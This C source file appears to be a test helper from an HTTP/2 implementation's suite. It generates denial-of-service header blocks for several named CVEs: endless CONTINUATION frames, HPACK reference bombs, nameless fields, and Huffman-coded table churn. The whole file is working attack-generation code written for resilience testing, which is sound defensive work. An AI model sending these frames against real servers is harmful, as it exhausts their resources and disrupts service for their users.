/*
 * attack/blocks.c - header blocks that cost more to decode than to send.
 */
#include "tests/helpers/attack/attack.h"
#include "tests/helpers/attack/units.h"

/* HEADERS that never end. variant: bytes of each CONTINUATION (0: empty). With --path huffman the
 * bytes are one long Huffman-coded string. */
static bool step_continuation(struct peer *peer) {
  if (peer->next_id == 1) {
    peer_put_head(peer, 1, HEADERS, END_STREAM, 1);
    peer_put(peer, "\x82", 1);
    peer->next_id = 3;
  }
  peer_put_head(peer, peer->options->variant, CONTINUATION, 0, 1);
  peer_put_zeros(peer, 0x82, peer->options->variant);
  return true;
}

static const uint8_t request_start[] = {0x82, 0x86, 0x04, 1, '/', 0x01, 1, 'a'};

static void put_block(struct peer *peer, size_t len) {
  peer_put_head(peer, sizeof request_start + len, HEADERS, END_HEADERS | END_STREAM, peer->next_id);
  peer_put(peer, request_start, sizeof request_start);
  peer->next_id += 2;
}

/* As many one-octet references to one entry as a frame holds. variant 0: an empty value
 * (bookkeeping, CVE-2026-49975); 1: cookie crumbs; 2: 3900 octets each (CVE-2016-6581). */
static bool step_bomb(struct peer *peer) {
  static const uint8_t empty[] = {0x40, 1, 'a', 0}, crumb[] = {0x60, 1, 'c'};
  static const uint8_t large[] = {0x40, 1, 'b', 0x7f, 0xbd, 0x1d};
  const size_t references = 16000;
  if (peer->next_id > 1) {
    put_block(peer, references);
  } else if (peer->options->variant == 2) {
    put_block(peer, sizeof large + 3900);
    peer_put(peer, large, sizeof large);
    peer_put_zeros(peer, 'v', 3900);
    return true;
  } else {
    const uint8_t *entry = peer->options->variant ? crumb : empty;
    const size_t len = peer->options->variant ? sizeof crumb : sizeof empty;
    put_block(peer, len);
    peer_put(peer, entry, len);
    return true;
  }
  peer_put_zeros(peer, 0xbe, references);
  return true;
}

/* Fields with neither name nor value (CVE-2019-9516). */
static bool step_nameless(struct peer *peer) {
  put_block(peer, 3 * 100);
  for (int i = 0; i < 100; i++)
    peer_put(peer, "\x00\x00\x00", 3);
  return true;
}

/* Valid requests whose fields cost the most to decode: Huffman codes, all inserted into the
 * table, where each insertion evicts (CVE-2022-41723 and header-table churn). variant: fields,
 * or 60. */
static bool step_churn(struct peer *peer) {
  if (peer->in_flight >= 100) return false;
  const size_t value = 120, fields = peer->options->variant ? peer->options->variant : 60;
  put_block(peer, fields * (value + 4));
  peer->in_flight++;
  for (size_t i = 0; i < fields; i++) {
    const uint8_t head[] = {0x40, 1, (uint8_t)('a' + i % 26), (uint8_t)(0x80 | value)};
    peer_put(peer, head, sizeof head);
    peer_put_zeros(peer, 0x21, value); /* 00100 00100 ...: some letter, five bits each */
  }
  return true;
}

static const struct attack attacks[] = {
    {"continuation", "CVE-2024-27316", step_continuation, NULL, true},
    {"bomb", "CVE-2026-49975, CVE-2016-6581", step_bomb, units_begin_closed, false},
    {"nameless", "CVE-2019-9516", step_nameless, NULL, false},
    {"churn", "header-table churn", step_churn, units_begin_wide, false},
};

const struct attack_list attack_blocks = ATTACK_LIST(attacks);
